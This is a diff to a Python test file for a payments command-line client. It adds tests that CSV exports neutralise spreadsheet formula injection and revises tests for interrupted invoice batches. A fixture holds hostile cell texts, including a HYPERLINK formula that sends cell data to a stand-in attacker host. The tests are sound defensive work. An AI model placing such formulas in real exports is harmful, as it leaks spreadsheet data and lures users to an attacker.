@@ -34,6 +34,7 @@ from palomma_client.workflows._cli import (
     cli,
     main,
 )
+from palomma_client.workflows._models import field_kinds
 from tests.support import fresh_name
 from tests.workflows.support import AMOUNT_MAX, AMOUNT_MIN, REDIRECT_URL, Tampering, no_wait
 
@@ -328,8 +329,18 @@ def test_a_signal_stops_the_batch_and_the_results_so_far_are_written(
     rows = list(csv.DictReader(io.StringIO(results.read_text(encoding="utf-8"))))
     created = [item for item in rows if item["outcome"] == "created"]
     assert 1 <= len(created) <= 2
-    assert [item["outcome"] for item in rows[len(created) :]] == ["not_attempted"] * (20 - len(created))
     assert len(fake.invoices()) == len(created)
+    # The rows never read are one summary row, not one row each: a million of them take too long.
+    [rest] = rows[len(created) :]
+    last_started = int(created[-1]["line"])
+    assert rest["outcome"] == "not_attempted"
+    assert rest["detail"] == (
+        f"the {20 - len(created)} rows after line {last_started} were not attempted "
+        f"(interrupted by {received.name}); run the file again to issue them"
+    )
+    assert f"20 invoices: {len(created)} created, 0 already existed, 0 failed, {20 - len(created)} not attempted" in (
+        result.stderr
+    )
     assert f"Error: interrupted by {received.name}; run the same file again" in result.stderr
     assert signal.getsignal(received) == handler_before  # the command put back what it found
 
@@ -350,8 +361,11 @@ def test_a_second_signal_stops_at_once(tmp_path: Path, fake: FakePalomma) -> Non
     )
 
     assert result.exit_code == EXIT_TERMINATED
-    assert json.loads(result.stdout) == []  # the one invoice in flight has no result to report
-    assert "5 invoices: 0 created, 0 already existed, 0 failed, 5 without a result" in result.stderr
+    # The one invoice in flight has no result to report; the four rows after it were never started.
+    [rest] = json.loads(result.stdout)
+    assert rest["outcome"] == "not_attempted"
+    assert rest["detail"].startswith("the 4 rows after line 2 were not attempted (interrupted by SIGTERM)")
+    assert "5 invoices: 0 created, 0 already existed, 0 failed, 4 not attempted, 1 without a result" in result.stderr
 
 
 # --------------------------------------------------------------------------- invoices list and get
@@ -613,3 +627,82 @@ def test_the_console_script_is_installed() -> None:
         [str(script), "settlements", "reconcile", "--help"], check=True, capture_output=True, text=True
     )
     assert "Usage: palomma settlements reconcile [OPTIONS] DATE CYCLE" in completed.stdout
+
+
+# --------------------------------------------------------------------------- spreadsheet-safe csv
+
+HOSTILE_TEXTS = (
+    '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
+    "+57 300 1234567",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab Tenant",
+    "\rCarriage Return Tenant",
+)
+"""Text a tenant or an upstream can write, which a spreadsheet would run as a formula (OWASP's first characters)."""
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _numeric_json_names() -> list[str]:
+    kinds = field_kinds(Invoice)
+    return [Invoice.JSON_NAMES[name] for name, kind in kinds.items() if kind in ("integer", "number")]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_TEXTS)
+def test_list_to_csv_neutralises_text_a_spreadsheet_would_run(fake: FakePalomma, hostile: str) -> None:
+    """Each such cell was written as it is; now it starts with a single quote, and reads back as text."""
+    created = fake.create_invoice(reference=f"{hostile}-ref", description=hostile, customer_name=hostile)
+
+    result = run(fake, "invoices", "list", "--format", "csv")
+
+    assert result.exit_code == EXIT_OK
+    [listed] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert listed["reference"] == "'" + created["reference"]
+    assert listed["description"] == "'" + hostile
+    assert listed["customer_name"] == "'" + hostile
+    assert listed["id"] == created["id"], "text that starts harmlessly is left as it is"
+    assert not [cell for cell in listed.values() if cell.startswith(FORMULA_STARTS)]
+
+
+def test_list_to_csv_writes_negative_numbers_as_numbers(fake: FakePalomma) -> None:
+    """A number the API sent is a number in the sheet, a negative one too: only text is quoted."""
+    numeric = _numeric_json_names()
+    assert numeric, "the spec's Invoice has numeric fields"
+
+    def negate(page: dict[str, Any]) -> None:
+        for item in page["items"]:
+            item.update(dict.fromkeys(numeric, -1850000))
+
+    fake.create_invoice(reference="RENT-NEGATIVE")
+
+    result = run(fake, "invoices", "list", "--format", "csv", transport=Tampering(fake, invoice_page=negate))
+
+    assert result.exit_code == EXIT_OK
+    [listed] = list(csv.DictReader(io.StringIO(result.stdout)))
+    python_names = {json_name: name for name, json_name in Invoice.JSON_NAMES.items()}
+    assert {listed[python_names[name]] for name in numeric} == {"-1850000"}
+
+
+def test_the_batch_result_file_neutralises_hostile_references(tmp_path: Path, fake: FakePalomma) -> None:
+    rows = []
+    for number, hostile in enumerate(HOSTILE_TEXTS, start=1):
+        cells = row(number).split(",")
+        cells[0] = '"' + f"{hostile}-{number}".replace('"', '""') + '"'
+        rows.append(",".join(cells))
+    path = rent_csv(tmp_path, *rows)
+    results = tmp_path / "results.csv"
+
+    result = run(fake, "invoices", "create-batch", str(path), "--format", "csv", "-o", str(results))
+
+    assert result.exit_code == EXIT_OK, result.stderr
+    with results.open(encoding="utf-8", newline="") as handle:
+        written = list(csv.DictReader(handle))
+    # The file's reader trims spaces and tabs around a cell: what was sent is what the fake stored.
+    sent = [invoice["reference"] for invoice in fake.invoices()]
+    formulas = [reference for reference in sent if reference.startswith(FORMULA_STARTS)]
+    assert len(formulas) >= 4
+    assert sorted(item["reference"] for item in written) == sorted(
+        "'" + reference if reference in formulas else reference for reference in sent
+    ), "the quote is only in the result file, never sent"
+    assert {item["outcome"] for item in written} == {"created"}
